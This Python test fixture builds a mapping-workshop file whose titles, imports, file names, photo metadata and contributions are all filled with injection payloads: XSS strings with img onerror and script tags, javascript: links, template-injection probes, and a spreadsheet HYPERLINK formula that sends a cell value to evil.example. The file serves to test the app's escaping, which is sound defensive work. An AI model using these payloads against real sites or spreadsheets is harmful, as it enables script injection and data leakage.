"""A workshop whose every text tries to run a script, in each of the ways that a page could let it.

       2.350     2.355     2.360
48.935   +---------+---------+
         | QN09301X| QN09302X|
48.930   +---------+---------+
"""

import csv
import io
import json
from contextlib import closing
from dataclasses import replace
from datetime import date
from pathlib import Path

from PIL import Image

from mapping.domain.data_protection import DataProtection
from mapping.domain.ids import new_id
from mapping.domain.models import Action, ContributionKind, DatasetKind
from mapping.domain.sessions import Answer
from mapping.domain.withdrawal import author_key
from mapping.domain.workshop_settings import Category, Moderation, Step
from mapping.services import sessions
from mapping.services.contribute import Request, contribute
from mapping.services.importing import ImportOptions
from mapping.services.moderate import moderate, moderate_photo
from mapping.services.phone import Room
from mapping.services.prepare import create_workshop, import_file
from mapping.services.workshops import open_store
from mapping.storage.interface import Store

MARK = "data-piege"
"""The attribute of every element that the texts would make, were they HTML anywhere."""
FILE_NAME = f"<img src=x {MARK}=1 onerror=top.piege=1>"
TEXT = (
    f'<img src=x {MARK}=1 onerror="top.piege=1">\'"><b {MARK}=1></script><script {MARK}=1>top.piege=1</script>'
    "{{7*7}}{% raw %}${top.piege=1}[lien](javascript:top.piege=1)"
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"ici")'
CODE = "TAMBOUR-CERISE-47"
_SHAPES = {
    ContributionKind.PLACE: "POINT (2.351 48.931)",
    ContributionKind.NEED: "POINT (2.352 48.932)",
    ContributionKind.PREMISES: "POINT (2.353 48.933)",
    ContributionKind.LIVED_AREA: "POLYGON ((2.351 48.931, 2.354 48.931, 2.354 48.934, 2.351 48.931))",
    ContributionKind.ROUTE: "LINESTRING (2.351 48.931, 2.354 48.934)",
}


def stuffed(folder: Path) -> Path:
    """Make the workshop and return its file."""
    path = folder / "piège.atelier"
    outlines = folder / f"{FILE_NAME}.geojson"
    features = [_square("QN09301X", 2.35), _square("QN09302X", 2.355)]
    outlines.write_text(json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8")
    create_workshop(str(path), outlines, title=TEXT)
    with closing(open_store(str(path))) as store:
        _settings(store)
        _lists(store, folder)
        _said(store)
    return path


def _settings(store: Store) -> None:
    workshop = store.workshop()
    settings = replace(
        workshop.settings,
        moderation=Moderation.AFTER,
        categories=(Category("piege", TEXT, False),),
        steps=(Step(TEXT, TEXT, 5, votes=True),),
        data_protection=DataProtection(TEXT, TEXT, TEXT, TEXT, recipients=TEXT, erase_on="2099-01-01"),
    )
    filieres = [replace(filiere, label=TEXT[:80], question=TEXT) for filiere in workshop.filieres]
    store.save_settings(settings=settings, filieres=filieres)
    made = replace(
        sessions.new_session(date(2026, 3, 14)), title=TEXT[:60], place=TEXT[:60], group_kind=TEXT[:40], groups=("<b>",)
    )
    sessions.open_session(store, sessions.create_session(store, made).id)


def _lists(store: Store, folder: Path) -> None:
    actor = dict.fromkeys(("name", "description", "address", "city"), TEXT)
    actors = [
        actor
        | {"id": "1", "filieres": "reparer", "lon": "2.3515", "lat": "48.9315", "website": "javascript:top.piege=1"},
        actor | {"id": FORMULA, "name": FORMULA, "filieres": "reparer", "lon": "2.3525", "lat": "48.9325"},
        actor | {"id": TEXT, "name": f"{TEXT} bis", "filieres": TEXT, "lon": "2.3516", "lat": "48.9315"},
    ]
    options = ImportOptions(title=TEXT, licence=TEXT, list_name="liste")
    import_file(store, _csv(folder / f"{FILE_NAME}.csv", actors), kind=DatasetKind.ACTORS, options=options)
    landmarks = [{"name": TEXT, "lon": "2.354", "lat": "48.932"}]
    import_file(store, _csv(folder / f"{FILE_NAME} 2.csv", landmarks), kind=DatasetKind.LANDMARKS, options=options)


def _said(store: Store) -> None:
    room = Room(store)
    key = author_key(CODE, store.workshop().id)
    for kind, wkt in _SHAPES.items():
        for text in (TEXT, FORMULA):
            drawn = kind in {ContributionKind.LIVED_AREA, ContributionKind.ROUTE}
            request = Request(
                kind, wkt, filiere=None if drawn else "reparer", text=text, category="" if drawn else "piege",
                group_name="<b>", author_key=key, people=7,
            )  # fmt: skip
            identifier = contribute(store, request).contribution.id
            moderate(store, identifier, Action.ACCEPT)
            if kind is ContributionKind.PLACE and text == TEXT:
                room.add_photo(identifier, _picture(), code=CODE)
                moderate_photo(store, identifier, show=True)
                room.know(new_id(), identifier, Answer.KNOWS, people=1, code=CODE, group="<b>")
    refused = contribute(store, Request(ContributionKind.NEED, "POINT (2.352 48.9335)", filiere="reparer", text=TEXT))
    moderate(store, refused.contribution.id, Action.REFUSE, reason=TEXT)


def _picture() -> bytes:
    """Return a photo whose caption and comment are hostile."""
    written = io.BytesIO()
    picture = Image.new("RGB", (20, 20), "red")
    exif = picture.getexif()
    exif[0x010E] = TEXT
    picture.save(written, "JPEG", exif=exif, comment=TEXT.encode())
    return written.getvalue()


def _csv(path: Path, rows: list[dict[str, str]]) -> Path:
    names = list(dict.fromkeys(name for row in rows for name in row))
    with path.open("w", newline="", encoding="utf-8") as out:
        writer = csv.DictWriter(out, names)
        writer.writeheader()
        writer.writerows(rows)
    return path


def _square(code: str, west: float) -> dict[str, object]:
    ring = [[west, 48.93], [west + 0.005, 48.93], [west + 0.005, 48.935], [west, 48.935], [west, 48.93]]
    return {
        "type": "Feature",
        "properties": {"code_qp": code, "lib_qp": f"{code} {TEXT}", "insee_com": "93066", "lib_com": TEXT},
        "geometry": {"type": "Polygon", "coordinates": [ring]},
    }
